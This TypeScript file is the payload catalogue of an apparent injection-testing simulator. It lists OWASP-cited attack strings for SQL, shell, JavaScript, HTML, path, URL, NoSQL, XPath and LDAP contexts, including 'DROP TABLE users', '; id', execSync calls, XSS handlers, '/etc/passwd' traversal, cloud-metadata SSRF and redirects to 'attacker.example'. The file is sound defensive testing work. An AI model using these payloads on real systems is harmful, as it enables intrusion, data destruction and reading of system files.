/**
 * The payload catalogue: for each place a hole can sit (its context), the benign value a
 * well-behaved caller would send and the attack strings the simulator tries, in order. It is
 * data, not code, so a reviewer can check each string against the public testing guide it
 * comes from. Placeholders: `{q}` is the delimiter that closes the construct the hole sits in
 * (a quote, `]`, a `$tag$`), `{v}` is the context's benign value, `{tag}` is the raw-text
 * element (script, style, textarea…) the hole sits in.
 *
 * Payloads are harmless probes (`id`, `alert(1)`, `sleep(1000)`, `DROP TABLE users`): they are
 * only ever parsed, never run, and they read clearly in a proof.
 */
import type { SqlDialect } from "../types";
import type { ContextId, HoleContext } from "./context";

interface PayloadEntry {
  text: string;
  /** Where the technique is documented. */
  source: string;
  /** Only for holes in SQL of these dialects (a function or syntax the others lack). */
  dialects?: readonly SqlDialect[];
}

// OWASP Web Security Testing Guide v4.2 sections and cheat sheets the entries below cite.
const WSTG_SQLI = "OWASP WSTG-INPV-05 Testing for SQL Injection";
const WSTG_CMDI = "OWASP WSTG-INPV-12 Testing for Command Injection";
const WSTG_CODEI = "OWASP WSTG-INPV-11 Testing for Code Injection";
const WSTG_XSS = "OWASP WSTG-INPV-01 Testing for Reflected XSS; OWASP XSS Filter Evasion Cheat Sheet";
const WSTG_PATH = "OWASP WSTG-ATHZ-01 Testing Directory Traversal File Include";
const WSTG_SSRF = "OWASP WSTG-INPV-19 Testing for Server-Side Request Forgery";
const WSTG_REDIRECT = "OWASP WSTG-CLNT-04 Testing for Client-side URL Redirect";
const WSTG_NOSQL = "OWASP WSTG-INPV-05.6 Testing for NoSQL Injection";
const WSTG_HPP = "OWASP WSTG-INPV-04 Testing for HTTP Parameter Pollution";
const WSTG_XPATH = "OWASP WSTG-INPV-09 Testing for XPath Injection";
const WSTG_LDAP = "OWASP WSTG-INPV-06 Testing for LDAP Injection";

/** The value a legitimate request would put in a hole of each context. */
export const BENIGN: Record<ContextId, string> = {
  "sql-statement": "SELECT 1",
  "sql-string": "alice",
  "sql-like": "alice",
  "sql-quoted-identifier": "id",
  "sql-numeric": "1",
  "sql-identifier": "id",
  "sql-order-by": "id",
  "sql-comment-line": "note",
  "sql-comment-block": "note",
  "shell-unquoted": "report.txt",
  "shell-single": "report.txt",
  "shell-double": "report.txt",
  "shell-comment": "note",
  "js-string": "hello",
  "js-template": "hello",
  "js-expression": "1",
  "js-regex": "a",
  "js-comment-line": "note",
  "js-comment-block": "note",
  "html-text": "hello",
  "html-tag": "hidden",
  "html-attr": "hello",
  "html-attr-unquoted": "hello",
  "html-url-attr": "/home",
  "html-rawtext": "hello",
  "html-comment": "note",
  "html-plaintext": "hello",
  "path-segment-start": "report.pdf",
  "path-segment-middle": "2024",
  "url-full": "https://example.com/",
  "url-host": "api",
  "url-after-host": "/item42",
  "url-path": "item42",
  "url-query": "42",
  "url-fragment": "top",
  "nosql-document": '{"username": "alice"}',
  "nosql-value": '"alice"',
  "nosql-string": "alice",
  "nosql-js-string": "alice",
  "nosql-js-code": "1",
  "xpath-string": "alice",
  "xpath-expression": "1",
  "ldap-filter": "(uid=alice)",
  "ldap-filter-value": "alice",
  "ldap-dn": "uid=alice",
  "ldap-dn-value": "alice",
};

const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
  // SQL ------------------------------------------------------------------------------------
  "sql-statement": [{ text: "SELECT 1; DROP TABLE users-- ", source: `${WSTG_SQLI}: the caller writes the whole query, so stacked queries` }],
  "sql-string": [
    { text: "{q} OR {q}1{q}={q}1", source: `${WSTG_SQLI}: always-true condition, closed by the query's own quote` },
    { text: "{q} OR 1=1-- ", source: `${WSTG_SQLI}: always-true condition, rest of the query commented out` },
    { text: "{q}; SELECT pg_sleep(5)-- ", source: `${WSTG_SQLI}: stacked time-delay query (PostgreSQL)`, dialects: ["postgresql"] },
    { text: "{q}; DROP TABLE users; -- ", source: `${WSTG_SQLI}: stacked queries` },
    { text: "{q} UNION SELECT NULL-- ", source: `${WSTG_SQLI}: UNION query technique` },
    {
      text: "{q}); SELECT pg_sleep(5)-- ",
      source: `${WSTG_SQLI}: close a VALUES list or call, stacked time-delay query (PostgreSQL)`,
      dialects: ["postgresql"],
    },
    { text: "{q}); DROP TABLE users; -- ", source: `${WSTG_SQLI}: close a VALUES list or call, stacked queries` },
  ],
  "sql-like": [
    { text: "%{q} OR {q}1{q}={q}1", source: `${WSTG_SQLI}: always-true condition after a wildcard` },
    { text: "{q} OR 1=1-- ", source: `${WSTG_SQLI}: always-true condition, rest commented out` },
    { text: "{q}; DROP TABLE users; -- ", source: `${WSTG_SQLI}: stacked queries` },
    { text: "{q} UNION SELECT NULL-- ", source: `${WSTG_SQLI}: UNION query technique` },
  ],
  "sql-quoted-identifier": [
    { text: "{v}{q} OR 1=1-- ", source: `${WSTG_SQLI}: close the quoted name, always-true condition` },
    { text: "{v}{q}; DROP TABLE users; -- ", source: `${WSTG_SQLI}: close the quoted name, stacked queries` },
    { text: "{v}{q} UNION SELECT NULL-- ", source: `${WSTG_SQLI}: close the quoted name, UNION query` },
  ],
  "sql-numeric": [
    { text: "1 OR 1=1", source: `${WSTG_SQLI}: numeric always-true condition` },
    { text: "1 OR 1=1-- ", source: `${WSTG_SQLI}: numeric always-true condition, rest commented out` },
    { text: "1) OR 1=1-- ", source: `${WSTG_SQLI}: close a parenthesis (IN lists, function calls) first` },
    { text: "1; SELECT pg_sleep(5)-- ", source: `${WSTG_SQLI}: stacked time-delay query (PostgreSQL)`, dialects: ["postgresql"] },
    { text: "1; DROP TABLE users", source: `${WSTG_SQLI}: stacked queries` },
    { text: "1; DROP TABLE users-- ", source: `${WSTG_SQLI}: stacked queries, rest commented out` },
    { text: "1 UNION SELECT NULL-- ", source: `${WSTG_SQLI}: UNION query technique` },
  ],
  "sql-identifier": [
    { text: "{v}; DROP TABLE users-- ", source: `${WSTG_SQLI}: stacked queries after a column or table name` },
    { text: "{v} UNION SELECT NULL-- ", source: `${WSTG_SQLI}: UNION query after a name` },
    { text: "{v} WHERE 1=1-- ", source: `${WSTG_SQLI}: replace the rest of the query after a table name` },
  ],
  "sql-order-by": [
    { text: "{v}; DROP TABLE users-- ", source: `${WSTG_SQLI}: stacked queries after ORDER BY` },
    { text: "(CASE WHEN 1=1 THEN id ELSE name END)", source: `${WSTG_SQLI}: boolean-based blind injection in ORDER BY` },
  ],
  "sql-comment-line": [
    { text: "\n; DROP TABLE users; -- ", source: `${WSTG_SQLI}: a newline ends the comment, then stacked queries` },
    { text: "\nUNION SELECT NULL-- ", source: `${WSTG_SQLI}: a newline ends the comment, then a UNION query` },
  ],
  "sql-comment-block": [
    { text: "*/ OR 1=1 /*", source: `${WSTG_SQLI}: close the comment, always-true condition` },
    { text: "*/; DROP TABLE users; /*", source: `${WSTG_SQLI}: close the comment, stacked queries` },
  ],

  // Shell ----------------------------------------------------------------------------------
  "shell-unquoted": [
    { text: "; id", source: `${WSTG_CMDI}: command separator` },
    { text: "| id", source: `${WSTG_CMDI}: pipe into a second command` },
    { text: "$(id)", source: `${WSTG_CMDI}: command substitution` },
    { text: "`id`", source: `${WSTG_CMDI}: backtick command substitution` },
    { text: "&& id", source: `${WSTG_CMDI}: run a command when the first succeeds` },
    { text: "|| id", source: `${WSTG_CMDI}: run a command when the first fails` },
    { text: "\nid", source: `${WSTG_CMDI}: newline as a command separator` },
  ],
  "shell-single": [
    { text: "'; id #", source: `${WSTG_CMDI}: close the single quote, command separator, comment out the rest` },
    { text: "'$(id)'", source: `${WSTG_CMDI}: close the single quote, command substitution` },
    { text: "'| id #", source: `${WSTG_CMDI}: close the single quote, pipe, comment out the rest` },
  ],
  "shell-double": [
    { text: "$(id)", source: `${WSTG_CMDI}: command substitution runs inside double quotes` },
    { text: "`id`", source: `${WSTG_CMDI}: backtick substitution runs inside double quotes` },
    { text: '"; id #', source: `${WSTG_CMDI}: close the double quote, command separator, comment out the rest` },
  ],
  "shell-comment": [{ text: "\nid", source: `${WSTG_CMDI}: a newline ends the comment` }],

  // JavaScript (eval, Function, vm, string timers) --------------------------------------------
  "js-string": [
    { text: "{q}+require({q}child_process{q}).execSync({q}id{q})+{q}", source: `${WSTG_CODEI}: close the string, concatenate a call` },
    { text: "{q});require({q}child_process{q}).execSync({q}id{q});({q}", source: `${WSTG_CODEI}: close the string and the call it is an argument of` },
    { text: "{q};require({q}child_process{q}).execSync({q}id{q});{q}", source: `${WSTG_CODEI}: close the string and the statement` },
  ],
  "js-template": [
    { text: "${require('child_process').execSync('id')}", source: `${WSTG_CODEI}: template literal substitution` },
    { text: "`+require('child_process').execSync('id')+`", source: `${WSTG_CODEI}: close the template literal, concatenate a call` },
  ],
  "js-expression": [
    { text: "require('child_process').execSync('id')", source: `${WSTG_CODEI}: the value is code` },
    { text: "1;process.exit(1)", source: `${WSTG_CODEI}: a second statement` },
    { text: "1);process.exit(1);(1", source: `${WSTG_CODEI}: close the call the value is an argument of` },
  ],
  "js-regex": [{ text: "a/+require('child_process').execSync('id')+/a", source: `${WSTG_CODEI}: close the regular expression, concatenate a call` }],
  "js-comment-line": [{ text: "\nrequire('child_process').execSync('id')//", source: `${WSTG_CODEI}: a newline ends the comment` }],
  "js-comment-block": [{ text: "*/require('child_process').execSync('id')/*", source: `${WSTG_CODEI}: close the comment` }],

  // HTML (XSS) -----------------------------------------------------------------------------
  "html-text": [
    { text: "<img src=x onerror=alert(1)>", source: `${WSTG_XSS}: image error handler` },
    { text: "<script>alert(1)</script>", source: `${WSTG_XSS}: script element` },
    { text: "<svg onload=alert(1)>", source: `${WSTG_XSS}: SVG load handler` },
  ],
  "html-tag": [
    { text: " onmouseover=alert(1) ", source: `${WSTG_XSS}: event handler attribute inside the tag` },
    { text: "><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: close the tag, new element` },
  ],
  "html-attr": [
    { text: "{q} onmouseover={q}alert(1)", source: `${WSTG_XSS}: close the attribute value, add an event handler` },
    { text: "{q}><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: close the value and the tag, new element` },
    { text: "{q} autofocus onfocus={q}alert(1)", source: `${WSTG_XSS}: handler that fires without user interaction` },
  ],
  "html-attr-unquoted": [
    { text: "x onmouseover=alert(1)", source: `${WSTG_XSS}: a space ends an unquoted value, add an event handler` },
    { text: "x><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: close the tag, new element` },
  ],
  "html-url-attr": [
    { text: "javascript:alert(1)", source: `${WSTG_XSS}: javascript: URL` },
    { text: "{q} onmouseover={q}alert(1)", source: `${WSTG_XSS}: close the attribute value, add an event handler` },
    { text: "{q}><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: close the value and the tag, new element` },
  ],
  "html-rawtext": [
    { text: "</{tag}><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: end the raw-text element early, new element` },
    { text: "</{tag}><script>alert(1)</script>", source: `${WSTG_XSS}: end the raw-text element early, script element` },
    // After `<!--<script>` in script data, `</script>` does not end the script until `-->` does.
    { text: "--></{tag}><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: leave a script data escape, end the element, new element` },
  ],
  "html-comment": [{ text: "--><img src=x onerror=alert(1)>", source: `${WSTG_XSS}: close the comment, new element` }],
  // Nothing ends <plaintext>: every later character is text.
  "html-plaintext": [],

  // Paths ----------------------------------------------------------------------------------
  "path-segment-start": [
    { text: "../../../../../../etc/passwd", source: `${WSTG_PATH}: dot-dot-slash sequences` },
    { text: "/etc/passwd", source: `${WSTG_PATH}: absolute path` },
  ],
  "path-segment-middle": [
    { text: "/../../../../../../etc/passwd", source: `${WSTG_PATH}: end the file name, then dot-dot-slash` },
    { text: "../../../../../../etc/passwd", source: `${WSTG_PATH}: dot-dot-slash sequences` },
  ],

  // URLs (SSRF, open redirect) ---------------------------------------------------------------
  "url-full": [
    { text: "http://169.254.169.254/latest/meta-data/", source: `${WSTG_SSRF}: cloud metadata endpoint` },
    { text: "http://127.0.0.1:8080/admin", source: `${WSTG_SSRF}: loopback service` },
    { text: "https://attacker.example/", source: `${WSTG_REDIRECT}: attacker's site` },
    { text: "//attacker.example/", source: `${WSTG_REDIRECT}: scheme-relative URL` },
    { text: "javascript:alert(1)", source: `${WSTG_REDIRECT}: javascript: URL` },
    { text: "//2130706433", source: `${WSTG_SSRF}: a scheme-relative URL to the loopback address as one decimal number, in base64's alphabet` },
  ],
  "url-host": [
    { text: "attacker.example/", source: `${WSTG_SSRF}: choose the host, the rest becomes the path` },
    { text: "attacker.example#", source: `${WSTG_SSRF}: choose the host, the rest becomes a fragment` },
    { text: "attacker.example?", source: `${WSTG_SSRF}: choose the host, the rest becomes the query` },
    { text: "169.254.169.254/", source: `${WSTG_SSRF}: cloud metadata endpoint` },
    { text: "localhost/", source: `${WSTG_SSRF}: loopback host` },
    { text: "2130706433", source: `${WSTG_SSRF}: the loopback address written as one decimal number (127.0.0.1), digits only` },
  ],
  "url-after-host": [
    { text: "@attacker.example/", source: `${WSTG_SSRF}: the intended host becomes user info before @` },
    { text: ".attacker.example/", source: `${WSTG_SSRF}: the intended host becomes a subdomain of the attacker's` },
  ],
  "url-path": [
    { text: "@attacker.example/", source: `${WSTG_SSRF}: user-info confusion (only before the first slash)` },
    { text: "//attacker.example", source: `${WSTG_REDIRECT}: scheme-relative URL` },
    { text: "\\\\attacker.example", source: `${WSTG_REDIRECT}: backslashes read as slashes in http(s) URLs` },
  ],
  "url-query": [{ text: "42&amount=0", source: `${WSTG_HPP}: an extra query parameter` }],
  // After # nothing reaches the server or changes where the URL points.
  "url-fragment": [],

  // NoSQL (MongoDB-style query documents) -----------------------------------------------------
  "nosql-document": [
    { text: '{"username": {"$ne": null}}', source: `${WSTG_NOSQL}: a field's value becomes a not-equal operator` },
    { text: '{"$where": "sleep(1000)"}', source: `${WSTG_NOSQL}: server-side JavaScript` },
  ],
  "nosql-value": [
    { text: '{"$ne": null}', source: `${WSTG_NOSQL}: not-equal operator matches every document` },
    { text: '{"$gt": ""}', source: `${WSTG_NOSQL}: greater-than operator matches every string` },
    { text: '{"$regex": ".*"}', source: `${WSTG_NOSQL}: regular expression that matches everything` },
    { text: '{"$where": "sleep(1000)"}', source: `${WSTG_NOSQL}: server-side JavaScript` },
  ],
  "nosql-string": [
    { text: '{q}, "$where": {q}sleep(1000)', source: `${WSTG_NOSQL}: close the string, add a $where clause` },
    { text: '{q}, "$or": [{}], "x": {q}', source: `${WSTG_NOSQL}: close the string, add an $or that matches everything` },
  ],
  // JavaScript the server runs: the payload stays inside the JavaScript string the program built.
  "nosql-js-string": [
    { text: "{q} || {q}1{q}=={q}1", source: `${WSTG_NOSQL}: $where condition made always true, closed by the code's own quote` },
    { text: "{q} || sleep(5000) || {q}", source: `${WSTG_NOSQL}: $where runs an added call (a time delay)` },
    {
      text: "{q} || this.constructor.constructor({q}return process{q})() || {q}",
      source: `${WSTG_CODEI}: reach the Function constructor from the server's JavaScript`,
    },
  ],
  "nosql-js-code": [
    { text: "1 || true", source: `${WSTG_NOSQL}: $where condition made always true` },
    { text: "1 || sleep(5000)", source: `${WSTG_NOSQL}: $where runs an added call (a time delay)` },
    { text: 'this.constructor.constructor("return process")()', source: `${WSTG_CODEI}: reach the Function constructor from the server's JavaScript` },
  ],

  // XPath --------------------------------------------------------------------------------------
  "xpath-string": [
    { text: "{q} or {q}1{q}={q}1", source: `${WSTG_XPATH}: close the string, add an always-true alternative` },
    { text: "{q} or 1=1 or {q}{q}={q}", source: `${WSTG_XPATH}: an always-true alternative that survives a following 'and'` },
    { text: "{q}] | //* | //*[{q}", source: `${WSTG_XPATH}: close the predicate, select every node with a union` },
  ],
  "xpath-expression": [
    { text: "1 or 1=1", source: `${WSTG_XPATH}: an always-true alternative` },
    { text: "1] | //* | //*[1", source: `${WSTG_XPATH}: close the predicate, select every node with a union` },
  ],

  // LDAP -----------------------------------------------------------------------------------------
  "ldap-filter-value": [
    { text: "*", source: `${WSTG_LDAP}: a wildcard turns an equality test into a presence test` },
    { text: "*)(objectClass=*", source: `${WSTG_LDAP}: close the item, add a filter component` },
    { text: "*{v}", source: `${WSTG_LDAP}: a leading wildcard widens an exact or prefix match` },
    { text: "*)(uid=*))(|(uid=*", source: `${WSTG_LDAP}: close the filter and start another (only servers that ignore trailing text accept it)` },
  ],
  "ldap-filter": [{ text: "(objectClass=*)", source: `${WSTG_LDAP}: a filter that matches every entry` }],
  "ldap-dn-value": [
    { text: "{v},ou=admins", source: `${WSTG_LDAP}: an added RDN moves the DN to another branch of the tree` },
    { text: "{v}+uid=admin", source: `${WSTG_LDAP}: a multi-valued RDN` },
  ],
  "ldap-dn": [{ text: "uid=admin,ou=admins", source: `${WSTG_LDAP}: a DN in another branch of the tree` }],
};

/**
 * The attack strings for a hole, in the order they are tried, with the placeholders filled.
 *
 * @example payloadsFor({ id: "sql-string", quote: "'", description: "" }) // ["' OR '1'='1", ...]
 */
export function payloadsFor(context: HoleContext): string[] {
  const q = context.quote ?? "";
  const v = BENIGN[context.id];
  const tag = context.tag ?? "script";
  const entries = CATALOGUE[context.id].filter((entry) => !entry.dialects || (context.dialect !== undefined && entry.dialects.includes(context.dialect)));
  return entries.map((entry) => entry.text.replace(/\{q\}|\{v\}|\{tag\}/g, (m) => (m === "{q}" ? q : m === "{v}" ? v : tag)));
}

/** Where a catalogue payload comes from (for documentation and tests). */
export function payloadSources(id: ContextId): string[] {
  return CATALOGUE[id].map((entry) => entry.source);
}
